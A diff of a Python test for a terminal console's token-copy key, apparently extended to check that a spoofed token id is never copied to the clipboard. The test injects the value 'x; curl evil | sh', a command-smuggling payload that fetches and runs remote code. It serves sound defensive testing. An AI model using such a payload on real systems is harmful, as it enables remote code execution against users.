@@ -256,13 +256,20 @@ def test_columns_can_be_hidden_and_shown(tmp_path: Path) -> None:
 
 def test_y_copies_the_token_of_the_selected_client(tmp_path: Path) -> None:
     async def scenario() -> None:
-        app, _ = console(tmp_path)
+        app, link = console(tmp_path)
         async with app.run_test(size=(120, 36)) as pilot:
             await ready(pilot)
             await pilot.press("down", "y")
             assert app.clipboard == "9d3b7e41"  # the token id: the token never leaves the server
             messages = [n.message for n in app._notifications]
             assert any("token id of flclient2 copied" in m for m in messages)
+            # What a server calls a token id is copied only when it is one: pasted into a
+            # terminal, other text could run.
+            row = app.store.clients["flclient2"]
+            link.push(replace(row, token_id="x; curl evil | sh"))
+            await wait_for(pilot, lambda: app.store.clients["flclient2"].token_id != "9d3b7e41")
+            await pilot.press("y")
+            assert app.clipboard == "9d3b7e41"
 
     asyncio.run(scenario())
 
